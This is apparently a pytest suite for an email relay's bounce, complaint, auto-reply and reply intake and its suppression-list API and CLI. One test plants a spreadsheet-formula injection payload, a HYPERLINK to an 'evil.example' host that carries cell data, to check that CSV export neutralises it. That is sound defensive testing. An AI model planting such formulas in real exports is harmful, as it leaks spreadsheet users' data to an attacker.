"""Inbound intake by API and CLI: bounces, complaints, auto-replies, replies, garbage;
and the suppression list's API and CLI. Real tracker, real store (SQLite, PostgreSQL)."""

from __future__ import annotations

import argparse
import asyncio
import csv
import email.utils
import io
import json
import mailbox
import shutil
from pathlib import Path
from typing import Any

import aiosmtplib
import pytest

from relay.bounces.intake_cli import cmd_inbound, cmd_suppressions
from relay.hookimpl import hookimpl
from relay.logs import reset_logging
from relay.records import Outcome, Reply, SentMessage, new_id
from relay.store.base import Store
from tests.conftest import CORPUS
from tests.deliverability_support import (
    BOUNCE_DOMAIN,
    MakeStack,
    Stack,
    campaign_message,
)
from tests.tracker_support import EXAMPLE_TOKEN, TOKEN_KEY

pytest_plugins = ("tests.tracker_fixtures", "tests.deliverability_fixtures")

EML = CORPUS / "bounces" / "eml"
#: lhost-postfix-33.eml reports userunknown@libsisimai.org unknown (5.1.1, hard) and
#: quotes this Message-ID.
POSTFIX_33_ID = "<20150429233445.BB8FFFFC16@p6.libsisimai.org>"
POSTFIX_33_RCPT = "userunknown@libsisimai.org"
#: lhost-postfix-10.eml: kijitora@example.jp refused 553 5.1.8 (rejected: soft).
POSTFIX_10_ID = "<20150213024544.6666920BF0@vagrant-centos65.vagrantup.com>"
#: arf-24.eml: an abuse complaint by kijitora@example.com about this message.
ARF_24_ID = "<0000000000fffffffff0000000000000@example.com>"


async def seed(store: Store, header_id: str, recipients: list[str],
               sender: str = "news@example.com", campaign: str | None = "spring") -> str:
    """Record a relayed message as the recorder does; return its internal id."""
    sent = SentMessage(message_id=new_id(), header_message_id=header_id, sender=sender,
                       recipients=recipients, campaign=campaign, subject="Hello")
    await store.record_sent(sent, Outcome(reply=Reply(250, "2.0.0", "Ok"), accepted=recipients,
                                          refused={}, message=b"", modified=False))
    await store.flush()
    return sent.message_id


async def inbound(stack: Stack, raw: bytes, token: str | None = None) -> tuple[int, Any]:
    kw: dict[str, Any] = {"data": raw, "headers": {"Content-Type": "message/rfc822"}}
    if token is not None:
        return await stack.api("POST", "/inbound", token=token, **kw)
    return await stack.api("POST", "/inbound", **kw)


async def test_corpus_bounce_matched_by_quoted_message_id(make_stack: MakeStack) -> None:
    stack = await make_stack()
    mid = await seed(stack.store, POSTFIX_33_ID, [POSTFIX_33_RCPT])
    status, body = await inbound(stack, (EML / "lhost-postfix-33.eml").read_bytes())
    assert status == 200, body
    assert body["kind"] == "bounce"
    assert [(e["message_id"], e["recipient"]) for e in body["events"]] == [
        (mid, POSTFIX_33_RCPT)]
    ev = (await stack.events(type="bounce"))[0]
    assert ev["data"]["reason"] == "userunknown" and ev["data"]["hard"] is True
    assert ev["data"]["status"] == "5.1.1" and ev["data"]["reply_code"] == 550
    assert ev["data"]["matched_by"] == "message_id"
    assert ev["data"]["decided_by"].startswith("status:")  # why, kept with the event
    assert body["events"][0]["suppressed"].startswith("hard bounce")
    # The same bounce again records nothing new.
    status, again = await inbound(stack, (EML / "lhost-postfix-33.eml").read_bytes())
    assert status == 200 and again["events"][0]["suppressed"] is None
    assert len(await stack.events(type="bounce")) == 1
    # A bounce about mail trackrelay never sent is taken in but records nothing.
    status, other = await inbound(stack, (EML / "lhost-postfix-10.eml").read_bytes())
    assert status == 200 and other["kind"] == "bounce"
    assert other["events"] == [] and other["unmatched"] == 1


async def test_arf_complaint_suppresses(make_stack: MakeStack) -> None:
    stack = await make_stack()
    mid = await seed(stack.store, ARF_24_ID, ["kijitora@example.com"])
    status, body = await inbound(stack, (EML / "arf-24.eml").read_bytes())
    assert status == 200 and body["kind"] == "complaint"
    events = await stack.events(type="complaint")
    assert [(e["message_id"], e["recipient"]) for e in events] == [
        (mid, "kijitora@example.com")]
    assert events[0]["data"]["feedback_type"] == "abuse"
    row = await stack.store.find_suppression("kijitora@example.com", [""])
    assert row is not None and row["reason"] == "complaint (abuse)"


async def test_auto_replies_and_out_of_office_are_not_bounces(make_stack: MakeStack) -> None:
    stack = await make_stack()
    verp_sent = campaign_message("news@shop.example.com", "bob@remote.test",
                                 message_id="<spring-1@shop.example.com>")
    await stack.send("news@shop.example.com", ["bob@remote.test"], verp_sent)
    verp = stack.sink.received[-1].mail_from
    # Vacation responders answer the envelope sender: the VERP address.
    vacation = (f"From: Bob <bob@remote.test>\r\nTo: {verp}\r\n"
                f"Subject: Re: Spring sale\r\nAuto-Submitted: auto-replied\r\n"
                f"In-Reply-To: <spring-1@shop.example.com>\r\n"
                f"Date: {email.utils.formatdate()}\r\n\r\n"
                f"I am on holiday until Monday.\r\n").encode()
    ooo = (f"From: Bob <bob@remote.test>\r\nTo: {verp}\r\n"
           f"Subject: Out of Office: Spring sale\r\n"
           f"References: <spring-1@shop.example.com>\r\n"
           f"Date: {email.utils.formatdate()}\r\n\r\n"
           f"I am out of the office with limited access to email.\r\n").encode()
    for raw in (vacation, ooo):
        _errors, reply = await stack.deliver_bounce("", [verp], raw)
        assert "OK" in reply
    for name in ("rfc3834-01.eml", "rfc3834-02.eml", "rfc3834-05.eml"):
        status, body = await inbound(stack, (EML / name).read_bytes())
        assert status == 200 and body["kind"] in ("autoreply", "ignored"), (name, body)
        assert body["events"] == []
    assert await stack.events(type=["bounce", "reply", "complaint"]) == []
    assert await stack.store.find_suppression("bob@remote.test", [""]) is None


async def test_reply_recognised_by_references(make_stack: MakeStack) -> None:
    stack = await make_stack()
    mid = await seed(stack.store, "<order-42@shop.example.com>", ["carol@remote.test"])
    reply = (b"From: Carol <carol@remote.test>\r\nTo: news@example.com\r\n"
             b"Subject: Re: Hello\r\nIn-Reply-To: <unknown-1@remote.test>\r\n"
             b"References: <order-42@shop.example.com> <unknown-1@remote.test>\r\n"
             b"Date: Tue, 24 Nov 2026 10:00:00 +0000\r\n"
             b"Message-ID: <r1@remote.test>\r\n\r\nThanks, how much is shipping?\r\n")
    status, body = await inbound(stack, reply)
    assert status == 200 and body["kind"] == "reply"
    events = await stack.events(type="reply")
    assert [(e["message_id"], e["recipient"]) for e in events] == [(mid, "carol@remote.test")]
    assert events[0]["data"]["matched_by"] == "references"
    assert await stack.store.find_suppression("carol@remote.test", [""]) is None
    # The same words about an untracked thread are nothing.
    status, body = await inbound(stack, reply.replace(b"order-42", b"order-43"))
    assert body["kind"] == "ignored" and body["events"] == []


async def test_garbage_huge_and_unauthorised_inbound(make_stack: MakeStack) -> None:
    stack = await make_stack(bounces={"max_message_size": 50000})
    status, body = await inbound(stack, bytes(range(256)) * 4)
    assert status == 422 and body["error"] == "not_a_message"
    assert "not an RFC 5322 message" in body["message"]
    status, body = await inbound(stack, b"")
    assert status == 422 and body["error"] == "empty"
    status, body = await inbound(stack, b"From: a@b.test\r\n\r\n" + b"x" * 60000)
    assert status == 413 and body["error"] == "too_large"
    assert "bounces.max_message_size" in body["message"]
    status, body = await inbound(stack, (EML / "lhost-postfix-10.eml").read_bytes(),
                                 token=EXAMPLE_TOKEN)
    assert status == 403
    status, _ = await stack.api("POST", "/inbound", token=None, data=b"Subject: x\r\n\r\n")
    assert status == 401
    status, body = await inbound(stack, (EML / "lhost-postfix-10.eml").read_bytes())
    assert status == 200  # still serving


async def test_suppression_api(make_stack: MakeStack) -> None:
    stack = await make_stack()
    status, body = await stack.api("POST", "/suppressions",
                                   json={"address": "A@Remote.test", "reason": "asked"})
    assert status == 201 and body["address"] == "a@remote.test" and body["scope"] == "global"
    status, body = await stack.api("POST", "/suppressions", json={"address": "nope"})
    assert status == 400 and body["parameter"] == "address"
    # written as a mail client copies it, as DELETE and the import take it
    status, body = await stack.api("POST", "/suppressions",
                                   json={"address": " <Angle@Remote.test> "})
    assert status == 201 and body["address"] == "angle@remote.test"
    status, _ = await stack.api("DELETE", "/suppressions/<angle@remote.test>")
    assert status == 200
    csv_body = "address,scope,reason\nb@remote.test,example.com,list cleanup\nbad-line\n"
    status, body = await stack.api("POST", "/suppressions/import", data=csv_body)
    assert status == 200 and body["added"] == 1 and len(body["problems"]) == 1
    status, body = await stack.api("GET", "/suppressions")
    assert {(i["address"], i["scope"]) for i in body["items"]} == {
        ("a@remote.test", "global"), ("b@remote.test", "example.com")}
    # A token scoped to example.com sees and manages only example.com's entries.
    status, body = await stack.api("GET", "/suppressions", token=EXAMPLE_TOKEN)
    assert [i["address"] for i in body["items"]] == ["b@remote.test"]
    status, body = await stack.api("DELETE", "/suppressions/a@remote.test",
                                   token=EXAMPLE_TOKEN, params={"scope": "global"})
    assert status == 403
    status, text = await stack.api("GET", "/suppressions/export")
    lines = text.strip().splitlines()
    assert lines[0] == "address,scope,reason,event_id,created_at" and len(lines) == 3
    status, body = await stack.api("DELETE", "/suppressions/a@remote.test",
                                   params={"note": "customer asked"})
    assert status == 200 and body["removed"] is True
    status, body = await stack.api("DELETE", "/suppressions/a@remote.test")
    assert status == 404
    status, body = await stack.api("GET", "/suppressions/removals")
    assert body["items"][0]["address"] == "a@remote.test"
    assert body["items"][0]["note"] == "customer asked"
    assert body["items"][0]["removed_by"] == "api:ops"


async def test_the_suppression_export_never_carries_a_formula(make_stack: MakeStack) -> None:
    """A reason (written by any scoped token holder) or an address beginning a spreadsheet
    formula is exported as text (OWASP "CSV Injection"), and imports back as it was."""
    stack = await make_stack()
    planted = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    for address, reason in (("victim@remote.test", planted), ("=1+1@remote.test", "@SUM(1)"),
                            ("-dash@remote.test", "+1 cleanup")):
        status, _ = await stack.api("POST", "/suppressions",
                                    json={"address": address, "reason": reason},
                                    token=EXAMPLE_TOKEN)
        assert status == 201
    status, text = await stack.api("GET", "/suppressions/export")
    rows = {r["reason"]: r for r in csv.DictReader(io.StringIO(text))}
    assert set(rows) == {"'" + planted, "'@SUM(1)", "'+1 cleanup"}
    assert rows["'@SUM(1)"]["address"] == "'=1+1@remote.test"
    assert rows["'+1 cleanup"]["address"] == "'-dash@remote.test"
    # a scope is a sender's domain as the envelope gave it: "=1+1" too
    status, _ = await stack.api("POST", "/suppressions",
                                json={"address": "kept@remote.test", "reason": "x",
                                      "scope": "=1+1"})
    assert status == 201
    status, text = await stack.api("GET", "/suppressions/export")
    rows = {r["address"]: r for r in csv.DictReader(io.StringIO(text))}
    assert rows["kept@remote.test"]["scope"] == "'=1+1"
    for line in text.splitlines()[1:]:
        assert not line.startswith(("=", "+", "-", "@"))
        assert all(not cell.startswith(("=", "+", "-", "@")) for cell in next(csv.reader([line])))

    for address in ("victim@remote.test", "=1+1@remote.test", "-dash@remote.test"):
        status, _ = await stack.api("DELETE", f"/suppressions/{address}",
                                    params={"scope": "example.com"})
        assert status == 200
    status, _ = await stack.api("DELETE", "/suppressions/kept@remote.test",
                                params={"scope": "=1+1"})
    assert status == 200
    status, body = await stack.api("POST", "/suppressions/import", data=text)
    assert status == 200 and body["added"] == 4, body
    status, body = await stack.api("GET", "/suppressions", params={"address": "kept@"})
    assert [(i["address"], i["scope"]) for i in body["items"]] == [
        ("kept@remote.test", "=1+1")]  # imported back as it was
    status, body = await stack.api("GET", "/suppressions", params={"scope": "example.com"})
    assert {(i["address"], i["reason"]) for i in body["items"]} == {
        ("victim@remote.test", planted), ("=1+1@remote.test", "@SUM(1)"),
        ("-dash@remote.test", "+1 cleanup")}


@pytest.fixture(autouse=True)
def _reset_logging() -> Any:
    """A command may configure structlog; give later tests the defaults."""
    yield
    reset_logging()


def _config_file(tmp_path: Path, store_url: str) -> str:
    path = tmp_path / "trackrelay.toml"
    path.write_text(f'[store]\nurl = "{store_url}"\n[tracking]\ntoken_keys = ["{TOKEN_KEY}"]\n'
                    f'[log]\nlevel = "error"\n')
    return str(path)


async def test_cli_inbound_file_maildir_mbox(make_stack: MakeStack, store_url: str,
                                             tmp_path: Path,
                                             capsys: pytest.CaptureFixture[str]) -> None:
    stack = await make_stack()
    bounce_mid = await seed(stack.store, POSTFIX_33_ID, [POSTFIX_33_RCPT])
    complaint_mid = await seed(stack.store, ARF_24_ID, ["kijitora@example.com"])
    maildir = tmp_path / "Maildir"
    for sub in ("new", "cur", "tmp"):
        (maildir / sub).mkdir(parents=True)
    shutil.copy(EML / "lhost-postfix-33.eml", maildir / "new" / "1.eml")
    (maildir / "cur" / "2.eml").write_bytes(b"\x00\x01garbage")
    box_path = tmp_path / "bounces.mbox"
    box = mailbox.mbox(str(box_path))
    for name in ("arf-24.eml", "rfc3834-01.eml"):
        box.add(mailbox.mboxMessage((EML / name).read_bytes()))
    box.close()
    single = tmp_path / "one.eml"
    shutil.copy(EML / "rfc3834-02.eml", single)
    args = argparse.Namespace(config=_config_file(tmp_path, store_url), store=None,
                              paths=[str(maildir), str(box_path), str(single)])
    capsys.readouterr()
    code = await asyncio.to_thread(cmd_inbound, args)
    out = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert code == 1  # the garbage file was refused
    by_file = {Path(o["file"]).name: o for o in out}
    assert by_file["1.eml"]["kind"] == "bounce"
    assert by_file["1.eml"]["events"][0]["message_id"] == bounce_mid
    assert by_file["2.eml"]["error"] == "not_a_message"
    assert by_file["bounces.mbox#1"]["kind"] == "complaint"
    assert by_file["bounces.mbox#1"]["events"][0]["message_id"] == complaint_mid
    assert by_file["bounces.mbox#2"]["kind"] == "autoreply"
    assert by_file["one.eml"]["events"] == []
    assert len(await stack.events(type=["bounce", "complaint"])) == 2


async def test_cli_suppressions(make_stack: MakeStack, store_url: str, tmp_path: Path,
                                capsys: pytest.CaptureFixture[str]) -> None:
    stack = await make_stack()
    config = _config_file(tmp_path, store_url)

    def run(action: str, **kw: Any) -> int:
        ns = argparse.Namespace(config=config, store=None, action=action, scope=None,
                                reason=None, note=None, limit=100, file=None, address=None)
        for k, v in kw.items():
            setattr(ns, k, v)
        return cmd_suppressions(ns)

    assert await asyncio.to_thread(run, "add", address="x@remote.test", reason="by hand") == 0
    csv_in = tmp_path / "in.csv"
    csv_in.write_text("y@remote.test\nz@remote.test,shop.example.com,old list\n")
    assert await asyncio.to_thread(run, "import", file=str(csv_in)) == 0
    capsys.readouterr()
    assert await asyncio.to_thread(run, "list") == 0
    listed = {json.loads(line)["address"] for line in capsys.readouterr().out.splitlines()}
    assert listed == {"x@remote.test", "y@remote.test", "z@remote.test"}
    out = tmp_path / "out.csv"
    assert await asyncio.to_thread(run, "export", file=str(out)) == 0
    assert "z@remote.test,shop.example.com,old list" in out.read_text()
    assert await asyncio.to_thread(run, "remove", address="x@remote.test", note="ok") == 0
    assert await asyncio.to_thread(run, "remove", address="x@remote.test") == 1
    assert await stack.store.find_suppression("x@remote.test", [""]) is None
    removals = await stack.store.list_suppression_removals()
    assert removals[0]["removed_by"] == "cli"


class HardenEverything:
    """A local policy plugin: every bounce of a given engine counts as hard."""

    @hookimpl
    async def trackrelay_classify_bounce(self, message: Any, raw: bytes,
                                         records: list[Any]) -> list[Any] | None:
        assert message.get("Subject")  # the parsed message, not the bytes
        if not records:
            return None
        for record in records:
            record.reason, record.hard = "userunknown", True
        return records


async def test_classify_hook_overrides_intake(make_stack: MakeStack) -> None:
    stack = await make_stack()
    stack.app.host.register(HardenEverything(), "harden")
    mid = await seed(stack.store, POSTFIX_10_ID, ["kijitora@example.jp"])
    status, body = await inbound(stack, (EML / "lhost-postfix-10.eml").read_bytes())
    assert status == 200 and [e["message_id"] for e in body["events"]] == [mid]
    ev = (await stack.events(type="bounce"))[0]
    assert ev["data"]["reason"] == "userunknown" and ev["data"]["hard"] is True
    assert ev["data"]["status"] == "5.1.8"  # the rest of the record is the built-in one
    assert await stack.store.find_suppression("kijitora@example.jp", [""]) is not None


async def test_the_bounce_listener_refuses_a_line_over_the_limit(make_stack: MakeStack
                                                                 ) -> None:
    """``relay.max_line_length`` holds for the bounce listener too: 554 5.6.0 after the
    final dot, nothing taken in."""
    stack = await make_stack(relay={"max_line_length": 2000})
    raw = (EML / "lhost-postfix-33.eml").read_bytes()
    long = raw.replace(b"\n\n", b"\n\n" + b"x" * 3000 + b"\n", 1)
    with pytest.raises(aiosmtplib.SMTPDataError) as info:
        await stack.deliver_bounce("", [f"postmaster@{BOUNCE_DOMAIN}"], long)
    assert info.value.code == 554
    assert info.value.message.startswith("5.6.0 Message refused: a line is longer than 2000")
    _errors, reply = await stack.deliver_bounce("", [f"postmaster@{BOUNCE_DOMAIN}"], raw)
    assert "OK" in reply


async def test_mime_nested_past_the_parser_is_taken_in_and_says_why(make_stack: MakeStack
                                                                    ) -> None:
    """A report whose message/rfc822 parts nest a thousand levels deep (deeper than the
    standard library's recursive parser follows) gives no record, and the intake says
    why (``problems``), by the API and by the bounce listener alike; it is not a
    temporary failure the sender would retry for days."""
    stack = await make_stack()
    raw = (b"From: MAILER-DAEMON@mx.remote.test\r\nTo: bounces@" + BOUNCE_DOMAIN.encode()
           + b"\r\nSubject: Undelivered Mail\r\nMIME-Version: 1.0\r\n"
           + b"Content-Type: message/rfc822\r\n\r\n" * 1000 + b"Subject: x\r\n\r\nhello\r\n")
    status, body = await inbound(stack, raw)
    assert status == 200, body
    assert body["kind"] == "ignored" and body["events"] == []
    assert any(p.startswith("nesting:") for p in body["problems"]), body
    _errors, reply = await stack.deliver_bounce("", [f"postmaster@{BOUNCE_DOMAIN}"], raw)
    assert reply.startswith("2.0.0 OK"), reply


async def test_the_bounce_listener_holds_the_relay_s_connection_limits(
        make_stack: MakeStack) -> None:
    """The listener is a public MX: connections from one address are capped at
    ``relay.max_connections_per_ip``, counted apart from the relay's own clients, and a
    session ends at ``relay.session_timeout``."""
    stack = await make_stack(relay={"max_connections_per_ip": 2, "session_timeout": 1.5})
    conns = []
    for _ in range(3):
        reader, writer = await asyncio.open_connection("127.0.0.1", stack.bounce_port)
        conns.append((reader, writer, (await asyncio.wait_for(reader.readline(), 10)).decode()))
    assert [c[2][:3] for c in conns] == ["220", "220", "421"]
    assert conns[2][2].startswith("421 4.7.0 ") and "Too many connections" in conns[2][2]
    # The relay's own clients are counted apart.
    reader, writer = await asyncio.open_connection("127.0.0.1", stack.relay_port)
    assert (await asyncio.wait_for(reader.readline(), 10)).startswith(b"220")
    writer.close()
    # A connection that ends frees its place.
    conns[0][1].close()
    await asyncio.sleep(0.2)
    reader, writer = await asyncio.open_connection("127.0.0.1", stack.bounce_port)
    assert (await asyncio.wait_for(reader.readline(), 10)).startswith(b"220")
    # And a session ends when its time is up, however busy.
    ended = (await asyncio.wait_for(conns[1][0].readline(), 10)).decode()
    assert ended.startswith("421 4.4.2 ") and "Session time limit" in ended
    for _r, w, _g in conns[1:]:
        w.close()
    writer.close()


async def test_trusted_networks_are_spared_the_bounce_listener_s_per_address_cap(
        make_stack: MakeStack) -> None:
    stack = await make_stack(relay={"max_connections_per_ip": 1},
                             bounces={"trusted_networks": ["127.0.0.0/8"]})
    writers = []
    for _ in range(3):
        reader, writer = await asyncio.open_connection("127.0.0.1", stack.bounce_port)
        assert (await asyncio.wait_for(reader.readline(), 10)).startswith(b"220")
        writers.append(writer)
    for writer in writers:
        writer.close()
